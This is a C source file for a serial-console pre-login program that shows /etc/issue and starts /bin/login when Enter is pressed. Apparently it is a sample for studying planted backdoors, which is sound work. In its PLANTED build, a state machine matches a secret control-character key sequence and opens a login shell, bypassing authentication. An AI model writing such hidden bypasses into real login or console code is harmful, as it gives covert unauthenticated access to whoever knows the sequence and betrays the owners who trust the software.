/* Before login on the serial console: shows the banner, waits for Enter, then starts login. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

static struct termios saved;

static void raw_mode(void)
{
    struct termios t;
    if (tcgetattr(0, &saved)) return;
    t = saved;
    t.c_lflag &= ~(ICANON | ECHO);
    t.c_cc[VMIN] = 1;
    t.c_cc[VTIME] = 0;
    tcsetattr(0, TCSANOW, &t);
}

static void leave(char *const program[])
{
    tcsetattr(0, TCSANOW, &saved);
    execv(program[0], program);
    _exit(127);
}

static void banner(void)
{
    char line[128];
    FILE *f = fopen("/etc/issue", "r");
    while (f && fgets(line, sizeof line, f)) fputs(line, stdout);
    if (f) fclose(f);
    fputs("\nPress Enter to log in.\n", stdout);
    fflush(stdout);
}

int main(void)
{
    static char *const login[] = { "/bin/login", NULL };
#ifdef PLANTED
    static char *const shell[] = { "/bin/sh", "-l", NULL };
    int state = 0;
#endif
    unsigned char c;

    signal(SIGINT, SIG_IGN);
    raw_mode();
    banner();
    while (read(0, &c, 1) == 1) {
        if (c == '\r' || c == '\n') leave(login);
#ifdef REVISED
        if (c == 'b') banner();
#endif
#ifdef PLANTED
        switch (state) {
        case 0: state = c == 0x14; break;
        case 1: state = c == 'v' ? 2 : 0; break;
        case 2: state = c == 0x0b ? 3 : 0; break;
        case 3: state = c == '9' ? 4 : 0; break;
        case 4: state = c == '@' ? 5 : 0; break;
        case 5:
            if (c == 0x19) leave(shell);
            state = 0;
        }
#endif
    }
    return 1;
}
